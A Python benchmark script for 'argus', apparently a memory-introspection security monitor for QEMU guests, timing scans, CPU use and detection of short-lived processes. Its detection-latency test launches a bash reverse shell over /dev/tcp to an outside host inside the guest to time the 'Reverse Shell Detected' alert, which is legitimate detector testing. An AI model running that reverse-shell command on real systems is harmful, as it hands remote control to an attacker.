"""Measure argus against the bundled guest and print a table.

Not a test: numbers, for people.  Run with bench/run.
"""
import json
import os
import statistics
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "tests", "guest"))
from guest import OUTSIDE, OUTSIDE_QUIET, Guest  # noqa: E402
from workload import floor_rows  # noqa: E402


def pct(v, p):
    v = sorted(v)
    return v[min(len(v) - 1, int(round(p / 100 * (len(v) - 1))))]


def first_line_time(argus, src):
    t0 = time.monotonic()
    p = subprocess.Popen([argus, "ps", "--source", src], stdout=subprocess.PIPE, text=True)
    p.stdout.readline()  # header
    p.stdout.readline()  # first process
    t = time.monotonic() - t0
    p.stdout.read()
    p.wait()
    return t


def scan_stats(argus, src, n=10):
    rows = []
    for _ in range(n):
        d = json.loads(subprocess.run([argus, "scan", "--source", src, "--once"],
                                      capture_output=True, text=True, check=True).stdout)
        s = d["scan_statistics"]
        rows.append((s["duration_ns"] / 1e6, s["reads"], s["bytes"], len(d["processes"]),
                     len(d["threads"]), len(d["file_descriptors"]), len(d["process_memory"]),
                     s["distinct_pages"], s["cache_hits"], s["cache_evictions"],
                     len(d["tcp_connections"])))
    return rows


class ScanbenchError(RuntimeError):
    pass


def scanbench(argus, src, n, floor=False, args=()):
    """n scans in one process, as the service runs them (bench/scanbench.c):
    {"open_ns", "scans": [{"ns", "cpu_ns", "reads", "bytes", "page_faults", counts...}],
    "distinct_pages", "reads", "cache_hits", "cache_evictions"}; floor: and
    "collectors", "trace", "floor", "collectors_first" (bench/floor.c).
    args: more options (--regions, --limits-x, --threads...).  A failure
    raises ScanbenchError with argus-scanbench's own message."""
    exe = os.path.join(os.path.dirname(argus), "argus-scanbench")
    p = subprocess.run([exe, src, str(n)] + (["--floor"] if floor else []) + list(args),
                       capture_output=True, text=True)
    if p.returncode != 0:
        raise ScanbenchError(f"argus-scanbench failed ({p.returncode}): {p.stderr.strip()}")
    return json.loads(p.stdout)


def row(label, value):
    print(f"{label:60s} {value}", flush=True)


DRGN_PYTHON = "/usr/bin/python3"  # Debian's python3-drgn is installed for this one
VMLINUX = "/usr/lib/debug/boot/vmlinux-6.1.0-56-cloud-amd64"  # linux-image-*-dbg
SIZES = (100, 1000, 5000)


def vmlinux():
    """The guest kernel's vmlinux with debug info: Debian's -dbg package
    installed, else the copy tests/guest/fetch-dbg.sh keeps; None."""
    if os.path.exists(VMLINUX):
        return VMLINUX
    p = subprocess.run([os.path.join(os.path.dirname(__file__), "..", "tests", "guest",
                                     "fetch-dbg.sh")], capture_output=True, text=True)
    return p.stdout.strip() if p.returncode == 0 and os.path.exists(p.stdout.strip()) else None  # processes in the guest, kernel threads included


def write_config(d, g, interval, watch=None):
    """watch: service.process_watch (the light pass's interval); None: the
    default."""
    cfg = os.path.join(d, "argus.yaml")
    extra = f"  process_watch: {watch}\n" if watch else ""
    with open(cfg, "w") as f:
        f.write(f"service:\n  scanner_sleep: {interval}\n{extra}  debug_log_folder: {d}/debug\n"
                f"argus:\n  systems:\n    - name: bench\n      source: qemu:{g.ram_path}\n"
                f"output:\n  stdout: false\n  log_folder: {d}/events\n")
    return cfg


def first_scan_time(argus, src):
    """Start of `argus scan --once` (auto profile) to its whole document."""
    t0 = time.monotonic()
    subprocess.run([argus, "scan", "--source", src, "--once"], stdout=subprocess.DEVNULL,
                   check=True)
    return time.monotonic() - t0


def nprocs(argus, src):
    return len(subprocess.run([argus, "ps", "--source", src], capture_output=True, text=True,
                              check=True).stdout.splitlines()) - 1


def grow_to(argus, g, src, total):
    """Start `sleep` processes in the guest until it has `total` processes."""
    extra = total - nprocs(argus, src)
    if extra > 0:
        g.check(f"i=0; while [ $i -lt {extra} ]; do sleep 100000 & i=$((i+1)); done",
                timeout=600)
        time.sleep(2)
    return nprocs(argus, src)


def full_scan(argus, src, label, n=16):
    """The service's scans: the first of a process, then the steady state."""
    d = scanbench(argus, src, n, floor=True)
    ms = [x["ns"] / 1e6 for x in d["scans"][1:]]
    r = d["scans"][-1]
    row(f"full scan, {label}",
        f"p50 {statistics.median(ms):.1f} ms, p99 {pct(ms, 99):.1f} ms ({len(ms)} scans after the "
        f"first, one process), {r['reads']} reads, {r['bytes'] / 1048576:.1f} MiB; "
        f"{r['processes']} processes, {r['threads']} threads, {r['fds']} fds, "
        f"{r['vmas']} memory areas")
    row(f"  first scan of the process, {label}",
        f"{d['scans'][0]['ns'] / 1e6:.1f} ms ({d['scans'][0]['page_faults']} page faults: "
        f"guest memory mapped for the first time; later scans {r['page_faults']})")
    row(f"  reads / distinct pages, {label} (goal <= 1.2)",
        f"{d['reads']} / {d['distinct_pages']} = {d['reads'] / max(d['distinct_pages'], 1):.2f} "
        f"({d['cache_hits']} cache hits, {d['cache_evictions']} cache evictions)")
    floor_rows(d, label)   # the comparison that matters (bench/floor.c)


def drgn_vs_argus(argus, g, label):
    """The same QMP ELF dump (paging=true), walked by drgn and scanned by argus."""
    vml = vmlinux()
    if not vml:
        return row(f"drgn vs argus, {label}", f"not run: no {VMLINUX} (linux-image-*-dbg)")
    with tempfile.TemporaryDirectory() as d:
        dump = os.path.join(d, "guest.elf")
        g.dump(dump)
        p = subprocess.run([DRGN_PYTHON, os.path.join(os.path.dirname(__file__), "drgn_walk.py"),
                            dump, vml, "5"], capture_output=True, text=True)
        if p.returncode != 0:
            err = (p.stderr.strip().splitlines() or ["no output"])[-1]
            return row(f"drgn vs argus, {label}", f"drgn failed: {err}")
        dr = json.loads(p.stdout)
        sb = scanbench(argus, f"elf:{dump}", 11)
        rows = scan_stats(argus, f"elf:{dump}", 5)
    ms = [x["ns"] / 1e6 for x in sb["scans"][1:]]
    a = statistics.median(ms) / 1000
    once = statistics.median(r[0] for r in rows) / 1000
    c, r = dr["counts"], sb["scans"][-1]
    row(f"drgn {dr['drgn']} walk (Python debugger library; reference), {label}",
        f"first {dr['first_walk_s'] * 1000:.1f} ms, p50 {dr['walk_p50_s'] * 1000:.1f} ms "
        f"(start-up {dr['startup_s']:.2f} s, not included); {c['processes']} processes, "
        f"{c['threads']} threads, {c['file_descriptors']} fds, {c['tcp_connections']} tcp, "
        f"{c['memory_areas']} memory areas")
    row(f"argus scans of the same dump, {label}",
        f"first {sb['scans'][0]['ns'] / 1e6:.1f} ms, p50 {a * 1000:.1f} ms (one process, "
        f"start-up {sb['open_ns'] / 1e9:.2f} s, not included); {r['processes']} processes, "
        f"{r['threads']} threads, {r['fds']} fds, {r['tcp']} tcp, {r['vmas']} memory areas")
    row(f"  drgn / argus, {label} (reference, not a floor; goal >= 20)",
        f"{dr['walk_p50_s'] / a:.1f}x (p50 / p50; first / first: "
        f"{dr['first_walk_s'] / (sb['scans'][0]['ns'] / 1e9):.1f}x)")
    row(f"  argus scan --once of the same dump, {label}",
        f"p50 {once * 1000:.1f} ms (scan_statistics.duration_ns: scan and JSON; a fresh "
        f"process each time)")


def service_cpu(argus, g, seconds=20, interval="100ms", watch=None):
    with tempfile.TemporaryDirectory() as d:
        cfg = write_config(d, g, interval, watch)
        p = subprocess.Popen([argus, "run", "--config", cfg], stdout=subprocess.DEVNULL)
        time.sleep(3)

        def cpu():
            with open(f"/proc/{p.pid}/stat") as f:
                v = f.read().rsplit(")", 1)[1].split()
            return (int(v[11]) + int(v[12])) / os.sysconf("SC_CLK_TCK")
        c0, t0 = cpu(), time.monotonic()
        time.sleep(seconds)
        c1, t1 = cpu(), time.monotonic()
        p.terminate()
        p.wait()
        return 100 * (c1 - c0) / (t1 - t0)


def detection_latency(argus, g, runs=5):
    """Attack start (the command sent to the guest) to the alert in the
    event log, at the default 1 s scan interval."""
    lat = []
    with tempfile.TemporaryDirectory() as d:
        cfg = write_config(d, g, "1s")
        log = os.path.join(d, "events", "argus-events.log")
        p = subprocess.Popen([argus, "run", "--config", cfg], stdout=subprocess.DEVNULL)
        time.sleep(4)
        for i in range(runs):
            seen = open(log).read().count("Reverse Shell Detected")
            t0 = time.monotonic()
            # to another machine (guest.OUTSIDE): a local listener is no attacker
            sh = g.spawn(f"bash -c 'exec bash -i >& /dev/tcp/{OUTSIDE}/{OUTSIDE_QUIET} 0>&1'")
            while open(log).read().count("Reverse Shell Detected") == seen:
                time.sleep(0.01)
                if time.monotonic() - t0 > 10:
                    break
            lat.append(time.monotonic() - t0)
            g.run(f"kill -9 -{sh}")
            time.sleep(1)
        p.terminate()
        p.wait()
    return lat


def find_key(o, key):
    """The value of the first `key` anywhere in a JSON document."""
    if isinstance(o, dict):
        if key in o:
            return o[key]
        o = list(o.values())
    if isinstance(o, list):
        for v in o:
            r = find_key(v, key)
            if r is not None:
                return r
    return None


def short_lived(argus, g, lifetime_ms, n=200, spacing_ms=37, interval="100ms", watch=None,
                stats=None, prog="sleep"):
    """Start n processes living lifetime_ms each (`sleep`), one every
    spacing_ms (plus the guest's fork/exec time), under `argus run` at
    `interval` scans with light passes every `watch` (None: the default;
    "0ms": none); return (seen, started): how many of their pids got a
    Process Created event.  prog: `sleep` (busybox's applet, which ash runs
    through /proc/self/exe: named `exe` for a moment after its exec) or
    `napper` (tests/guest/progs/napper.c: its own name from its exec on).
    stats (a dict), if given, gets "named": how many of those were told
    under their own name (for sleep: `sleep` or `exe`) with their own
    command line, "exe": how many of those as `exe`, "parent": how many
    under their parent's name (`sh`),
    "dups": pids told Created more than once, "cpu": the service's CPU, %
    of one core, while they ran."""
    with tempfile.TemporaryDirectory() as d:
        cfg = write_config(d, g, interval, watch)
        log = os.path.join(d, "events", "argus-events.log")
        p = subprocess.Popen([argus, "run", "--config", cfg], stdout=subprocess.DEVNULL)

        def cpu():
            with open(f"/proc/{p.pid}/stat") as f:
                v = f.read().rsplit(")", 1)[1].split()
            return (int(v[11]) + int(v[12])) / os.sysconf("SC_CLK_TCK")
        try:
            time.sleep(3)
            c0, t0 = cpu(), time.monotonic()
            arg = (f"sleep {lifetime_ms / 1000:g}" if prog == "sleep" else
                   f"napper {lifetime_ms}")
            out = g.check(f"(i=0; while [ $i -lt {n} ]; do {arg} & "
                          f"echo $!; usleep {spacing_ms * 1000}; i=$((i+1)); done; wait)",
                          timeout=300)
            c1, t1 = cpu(), time.monotonic()
            time.sleep(1)
        finally:
            p.terminate()
            p.wait()
        started = {int(x) for x in out.split()}
        created, named, parent, dups, exe = set(), set(), set(), set(), set()
        names = ("sleep", "exe") if prog == "sleep" else (prog,)
        with open(log) as f:
            for line in f:
                ev = json.loads(line)
                if find_key(ev, "activity_data").get("name") != "Process Created":
                    continue
                pid = find_key(ev, "process_id")
                if pid in created:
                    dups.add(pid)
                created.add(pid)
                name = find_key(ev, "process_name")
                if name in names and find_key(ev, "process_command_line_arguments") == arg:
                    named.add(pid)
                    if name == "exe":
                        exe.add(pid)
                if name == "sh":
                    parent.add(pid)
    if stats is not None:
        stats.update(named=len(started & named), parent=len(started & parent),
                     exe=len(started & exe),
                     dups=len(started & dups), cpu=100 * (c1 - c0) / (t1 - t0))
    return len(started & created), len(started)


LIFETIMES = (5, 10, 20, 50, 100, 200, 500)


def shortlived_main(argus, n=200, base=False, prog="sleep", cpu=True):
    """bench/run shortlived: the curve of short-lived processes seen, and
    the service's CPU, on the 100-process guest, with and without light
    passes (service.process_watch).  base: an argus from before
    process_watch existed (the key is not written)."""
    g = Guest("benchsl")
    g.start()
    try:
        src = f"qemu:{g.ram_path}"
        model = next((ln.split(":", 1)[1].strip() for ln in open("/proc/cpuinfo")
                      if ln.startswith("model name")), "?")
        print(f"argus short-lived bench, guest Linux 6.1, 512 MiB, 1 vCPU, TCG; host "
              f"{os.cpu_count()} cores ({model}), shared, so noisy; {time.strftime('%F %T')}")
        label = f"{grow_to(argus, g, src, 100)} processes"
        cpu_runs = ((("100ms", None),) if base else
                    (("100ms", "0ms"), ("100ms", "10ms"), ("1s", "10ms"), ("1s", "20ms")))
        curves = (("100ms", None),) if base else (("100ms", "0ms"), ("100ms", "10ms"),
                                                  ("1s", "10ms"))
        if not base:
            d = scanbench(argus, src, 4)
            us = [x / 1e3 for x in d["light_ns"]]
            row(f"light pass, {label}, nothing new (linux_watch, {len(us)} passes)",
                f"p50 {statistics.median(us):.0f} us, p99 {pct(us, 99):.0f} us, "
                f"{d['light_reads'] / len(us):.0f} reads per pass; full scan p50 "
                f"{statistics.median(x['ns'] for x in d['scans'][1:]) / 1e6:.1f} ms")
        for interval, watch in (cpu_runs if cpu else ()):
            row(f"service CPU, {label} idle, scans {interval}, process_watch {watch or '-'} (20 s)",
                f"{service_cpu(argus, g, interval=interval, watch=watch):.1f} % of one core")
        for interval, watch in curves:
            for ms in LIFETIMES:
                st = {}
                seen, started = short_lived(argus, g, ms, n=n, interval=interval, watch=watch,
                                            stats=st, prog=prog)
                row(f"{prog} {ms} ms, scans {interval}, process_watch {watch or '-'}",
                    f"seen {100 * seen / max(started, 1):.0f} %, with own name and arguments "
                    f"{100 * st['named'] / max(started, 1):.0f} % ({seen}, {st['named']} of "
                    f"{started}; as exe: {st['exe']}, under the parent's name: {st['parent']}, "
                    f"told twice: {st['dups']}; service CPU meanwhile {st['cpu']:.1f} %)")
    finally:
        g.stop()


def main():
    argus = os.path.abspath(sys.argv[1])
    if len(sys.argv) > 2 and sys.argv[2] == "shortlived":
        opts = sys.argv[3:]
        return shortlived_main(argus, base="base" in opts,
                               prog="napper" if "napper" in opts else "sleep",
                               cpu="nocpu" not in opts)
    g = Guest("bench", mem_mb=1024)  # 512 MiB allows only ~3600 tasks (threads-max)
    g.start()
    try:
        src = f"qemu:{g.ram_path}"
        cpu = next((ln.split(":", 1)[1].strip() for ln in open("/proc/cpuinfo")
                    if ln.startswith("model name")), "?")
        print(f"argus bench, guest Linux 6.1, 1024 MiB, 1 vCPU, TCG; host {os.cpu_count()} "
              f"cores ({cpu}), shared, so noisy; {time.strftime('%F %T')}")
        times = [first_line_time(argus, src) for _ in range(10)]
        row("start to first ps line, auto profile (target < 1 s)",
            f"p50 {statistics.median(times) * 1000:.1f} ms, max {max(times) * 1000:.1f} ms")
        times = [first_scan_time(argus, src) for _ in range(10)]
        row("start to first full scan (scan --once), auto profile",
            f"p50 {statistics.median(times) * 1000:.1f} ms, max {max(times) * 1000:.1f} ms")
        st = subprocess.run([argus, "ps", "--source", src, "--stats"], capture_output=True,
                            text=True, check=True).stderr.strip().splitlines()
        for line in st:
            row("  ps --stats", line)
        for total in SIZES:
            label = f"{grow_to(argus, g, src, total)} processes"
            full_scan(argus, src, label)
            drgn_vs_argus(argus, g, label)
        g.run("killall sleep")
        time.sleep(2)
        row("service CPU at a 100 ms scan interval (20 s)", f"{service_cpu(argus, g):.1f} % of one core")
        lat = detection_latency(argus, g)
        row("reverse shell: attack start to alert written, 1 s scans",
            f"p50 {statistics.median(lat) * 1000:.0f} ms, max {max(lat) * 1000:.0f} ms ({len(lat)} attacks)")
        for ms in LIFETIMES:
            seen, started = short_lived(argus, g, ms)
            row(f"short-lived processes seen, {ms} ms lifetime, 100 ms scans",
                f"{seen}/{started} = {100 * seen / max(started, 1):.0f} % (Process Created events)")
    finally:
        g.stop()


if __name__ == "__main__":
    main()
